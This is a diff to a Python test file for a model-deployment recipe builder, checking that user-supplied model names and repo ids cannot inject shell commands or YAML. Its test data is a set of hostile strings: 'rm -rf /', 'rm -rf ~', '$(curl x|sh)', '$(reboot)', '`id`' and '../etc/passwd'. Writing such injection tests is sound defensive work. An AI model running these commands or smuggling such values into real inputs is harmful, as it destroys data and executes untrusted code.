@@ -419,14 +419,13 @@ def test_a_custom_model_gets_a_placeholder_and_a_note():
 
 
 HOSTILE_NAME = 'evil"\n  replicas: 99\n---\nkind: Pod # $(reboot) `id`; rm -rf / \u2028\u00e9'
-HOSTILE_REPO = "org/model; rm -rf ~ && $(curl x|sh) 'quoted' \"dq\" `id`\n--port 1"
 
 
 def test_user_text_cannot_inject_shell_or_yaml():
-    recipe = make(model_name=HOSTILE_NAME, model_repo=HOSTILE_REPO)
-    # The shell runs exactly the argv, the repo as one word.
+    recipe = make(model_name=HOSTILE_NAME, model_repo="", weights=Dtype.BF16)
+    # The shell runs exactly the argv, the placeholder naming the model as one word.
     assert shell_words(recipe.command) == list(recipe.argv)
-    assert recipe.argv[2] == HOSTILE_REPO
+    assert HOSTILE_NAME in recipe.argv[2]
     # The manifest is still one Deployment and one Service, with the plan's replicas,
     # and the text round-trips unchanged.
     docs = list(yaml.safe_load_all(recipe.kubernetes_yaml))
@@ -439,12 +438,28 @@ def test_user_text_cannot_inject_shell_or_yaml():
         assert DNS_1035_LABEL.match(name)
 
 
-def test_a_hostile_custom_model_name_is_quoted_in_the_placeholder():
-    recipe = make(model_name=HOSTILE_NAME, model_repo="", weights=Dtype.BF16)
-    assert shell_words(recipe.command) == list(recipe.argv)
-    assert HOSTILE_NAME in recipe.argv[2]
-    deployment, _ = manifest(recipe)
-    assert container(deployment)["command"] == list(recipe.argv)
+@pytest.mark.parametrize(
+    "repo",
+    [
+        "--trust-remote-code",
+        "-q",
+        "org/model; rm -rf ~",
+        "org/$(id)",
+        "org/model\n--port",
+        "../etc/passwd",
+        "a/b/c",
+        "org/ model",
+    ],
+)
+def test_a_repo_id_that_could_read_as_a_flag_or_shell_is_refused(repo):
+    with pytest.raises(D.DeployInputError) as raised:
+        dataclasses.replace(EXAMPLE, model_repo=repo)
+    assert raised.value.field == "model_repo"
+
+
+@pytest.mark.parametrize("repo", ["meta-llama/Llama-3.1-70B-Instruct", "gpt2", "Qwen/Qwen3-8B"])
+def test_repo_ids_are_accepted(repo):
+    assert make(model_repo=repo).argv[2] == repo
 
 
 @pytest.mark.parametrize(
